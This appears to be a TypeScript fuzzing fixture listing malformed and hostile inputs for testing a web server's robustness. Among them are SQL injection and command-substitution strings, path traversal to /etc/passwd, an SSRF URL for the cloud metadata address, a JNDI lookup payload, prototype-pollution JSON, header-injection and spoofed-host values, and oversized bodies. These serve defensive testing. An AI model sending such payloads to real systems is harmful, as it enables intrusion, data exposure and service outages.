// What breaks careless servers: texts, values, numbers no JSON number is, bodies that are none, headers and paths.

/** Stands for a patient's fact in everything that is sent; it must never be found in the log. */
export const CANARY = 'Canary Zoe 77/31'

const LONG = 'a'.repeat(9_000)

export const TEXTS: readonly string[] = [
  ...['', ' ', '\t', CANARY, LONG, '\u{1d54f}'.repeat(200), '\u0000', 'a\u0000b', '\ud800', '\udfff\ud800'],
  ...[
    '\u202eright',
    '\ufeff',
    '\u200b',
    'e\u0301'.repeat(90),
    '%00',
    '%2e%2e%2f',
    '%c0%af',
    '../../etc/passwd',
  ],
  ...["'; DROP TABLE event; --", '" OR "1"="1', "1' UNION SELECT 1 --", 'x\\', '$1', ':1', '?', '%', '_'],
  ...[
    '{{7*7}}',
    '${7*7}',
    '<%= 7 %>',
    '#{7}',
    '<script>1</script>',
    '$(id)',
    '`id`',
    '|id',
    '%s%n',
    '*',
    '(',
  ],
  ...['NaN', 'Infinity', '-0', '1e309', 'null', 'undefined', 'true', '[object Object]', '0x10', '１２'],
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', 'toJSON', 'length'],
  ...['2026-02-30T00:00:00Z', '2026-03-08T02:30:00-05:00', '9999-12-31T23:59:59Z', '0000-01-01T00:00:00Z'],
  ...[
    '-271821-04-20T00:00:00Z',
    '+275760-09-13T00:00:00.001Z',
    '2026-03-12T24:00:00Z',
    '2026-03-12T22:15:60Z',
  ],
  ...[
    '2026-03-12/evening',
    '2026-03-12/noon',
    '9999-12-31/evening',
    '0000-00-00/morning',
    '/',
    'a/b',
    '..',
    '.',
  ],
  ...['Etc/GMT+12', 'America/Nowhere', 'UTC\u0000', '-5kg', '1e99mg', '0.00000000001mg/kg', '999999999999kg'],
  ...[
    'x-injected\r\nX-Injected: 1',
    'http://169.254.169.254/',
    'https://push.example/\u0000',
    'file:///etc/passwd',
  ],
]

export const VALUES: readonly unknown[] = [
  ...[null, true, false, 0, -0, -1, 1, 0.1, 1e-320, 1e308, -1e308, 2 ** 31, 2 ** 53, -(2 ** 63), 1e21],
  ...[[], {}, [[]], [null], [{}], { a: 1 }, { length: 1e9 }, { then: 1 }, { toJSON: 1 }, { $ne: null }],
  ...[
    Array.from({ length: 2_000 }, () => 0),
    Object.fromEntries(Array.from({ length: 500 }, (_, n) => [`k${n}`, n])),
  ],
]

/** Put into a body in place of a value as they stand. */
export const RAW_VALUES: readonly string[] = [
  ...['1e309', '-1e309', 'NaN', 'Infinity', '0x10', '01', '+1', '.5', '1.', '1e-999', '-0', '9'.repeat(400)],
  ...[
    '123456789012345678901234567890',
    'undefined',
    'True',
    "'a'",
    '"\\ud800"',
    '"\\u0000"',
    '"\\x41"',
    '/**/1',
  ],
  ...[
    '{"__proto__":{"admin":true}}',
    '{"constructor":{"prototype":{"admin":true}}}',
    '{"a":1,"a":2}',
    '[1,]',
    '{,}',
  ],
]

const nested = (open: string, close: string, depth: number): string =>
  open.repeat(depth) + '1' + close.repeat(depth)

/** Bodies as bytes, each character one of them. */
export const BODIES: readonly string[] = [
  ...[
    '',
    ' ',
    '\n',
    '{',
    '}',
    '[',
    '{"a"',
    '{"a":',
    '{"a":1',
    '"',
    'null',
    '0',
    'true',
    '""',
    '[]',
    '{}',
    'nul',
    '\x00',
  ],
  ...[
    '\xef\xbb\xbf{}',
    '\xff\xfe{\x00}\x00',
    '{"a":"\xff"}',
    '{"a":"\xc0\xaf"}',
    '{"a":"\xed\xa0\x80"}',
    '\xf8\x88\x80\x80\x80',
  ],
  ...[nested('[', ']', 33), nested('[', ']', 100_000), nested('{"a":', '}', 100_000), '['.repeat(900_000)],
  ...[
    '{"events":' + nested('[', ']', 31) + '}',
    '{"events":[' + '{},'.repeat(20_000) + '{}]}',
    'a=1&b=2',
    '<a/>',
  ],
  ...[
    '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
    '\x1f\x8b\x08\x00',
    'x'.repeat(1_048_577),
  ],
  ...[`{"${'k'.repeat(100_000)}":1}`, `{"a":"${'\\u0041'.repeat(20_000)}"}`, `[${'1,'.repeat(300_000)}1]`],
  'x'.repeat(10 * 1_048_576),
]

export const TYPES: readonly string[] = [
  ...[
    'application/json',
    'application/json; charset=utf-8',
    'application/json;charset=latin1',
    'text/plain',
    '',
  ],
  ...[
    'application/json; charset=utf-16',
    'APPLICATION/JSON',
    'application/problem+json',
    'multipart/form-data',
  ],
  ...[
    'multipart/form-data; boundary=x',
    'application/x-www-form-urlencoded',
    'a/b; c',
    '*/*',
    ';',
    'x'.repeat(4_000),
  ],
  ...['application/json, text/plain', 'application/xml', 'application/json;charset="', 'null'],
]

const COOKIES = Array.from({ length: 1_500 }, (_, n) => `c${n}=1`).join('; ')

export const HEADERS: readonly (readonly [name: string, value: string])[] = [
  ['cookie', COOKIES],
  ['cookie', 'stature-session=; stature-session=%00; stature-device=%FF%FE; =; ;;; a'],
  ['cookie', `stature-session=${'A'.repeat(43)}; stature-session=${'B'.repeat(43)}`],
  ['cookie', '__proto__=1; constructor=2; toString=3'],
  ['authorization', 'Bearer'],
  ['authorization', `Bearer ${'A'.repeat(43)}`],
  ['authorization', `Bearer ${'A'.repeat(5_000)}`],
  ['authorization', 'Basic Og=='],
  ['authorization', 'bearer \ud800'],
  ['origin', 'null'],
  ['origin', 'http://localhost.evil.example'],
  ['origin', 'http://localhost'],
  ['sec-fetch-site', 'cross-site'],
  ['sec-fetch-site', 'same-origin'],
  ['x-forwarded-for', '1.2.3.4, 5.6.7.8, unknown, ::1, \u0000'],
  ['x-forwarded-host', 'evil.example'],
  ['x-forwarded-proto', 'javascript'],
  ['forwarded', 'for="[::1]:x";by=;host=evil'],
  ['x-http-method-override', 'DELETE'],
  ['x-original-url', '/metrics'],
  ['host', 'evil.example'],
  ['host', ''],
  ['content-encoding', 'gzip'],
  ['content-encoding', 'identity, br, ../..'],
  ['accept', 'application/x-nothing;q=abc'],
  ['accept-language', '*'.repeat(3_000)],
  ['accept-encoding', 'gzip;q=NaN'],
  ['if-none-match', '*'],
  ['if-modified-since', 'yesterday'],
  ['range', 'bytes=0-,1-,2-,-1'],
  ['expect', 'nonsense'],
  ['last-event-id', '-1'],
  ['last-event-id', '99999999999999999999'],
  ['user-agent', `${CANARY}\t${'u'.repeat(3_000)}`],
  ['x-request-id', '${jndi:ldap://evil.example}'],
  ['upgrade', 'websocket'],
  ['connection', 'upgrade, x'],
  ['te', 'trailers, deflate;q=0.5'],
  ['__proto__', 'x'],
  ['constructor', 'x'],
]

/** Query strings. */
export const QUERIES: readonly string[] = [
  ...[
    'after=-1',
    'after=1e400',
    'after=NaN',
    'after=9007199254740993',
    'limit=0',
    'limit=-1',
    'limit=1000000000',
  ],
  ...[
    'limit=1.5',
    'limit=0x10',
    'limit=%31',
    'before=-5',
    'before=0',
    'days=99999999',
    'days=-1',
    'days=0',
    'days=1e3',
  ],
  ...[
    'after=1&after=2',
    'after[]=1',
    'after[a]=1',
    '__proto__[a]=1',
    '__proto__=1',
    'constructor=1',
    'a=1',
    '=',
    '&&&',
  ],
  ...[
    'language=xx',
    'language=%00',
    'paper=a0',
    'format=exe',
    'format=pdf&language=__proto__',
    'token=x',
    '%',
    '%zz',
  ],
  ...[
    `after=${'9'.repeat(500)}`,
    `a=${'x'.repeat(6_000)}`,
    'after=%00',
    'after=',
    'after',
    '?',
    '#',
    'after=%EF%BC%91',
  ],
]

/** Parts of a path, as they are written in it. */
export const SEGMENTS: readonly string[] = [
  ...[
    '%00',
    '%2e%2e',
    '%2F',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '%c0%af',
    '%ff',
    '%',
    '%zz',
    '%u0041',
    '*',
    '..;',
    '~',
  ],
  ...[
    '__proto__',
    'constructor',
    'undefined',
    'null',
    '-1',
    '0',
    "'%20OR%20'1'='1",
    '%0d%0aX-Injected:%201',
    '%F0%9F%92%89',
  ],
  ...[
    'a'.repeat(299),
    'a'.repeat(301),
    'a'.repeat(5_000),
    '%61'.repeat(250),
    '%E2%80%AE',
    ' '.trim() + '%20',
    ':course',
    '{id}',
  ],
]
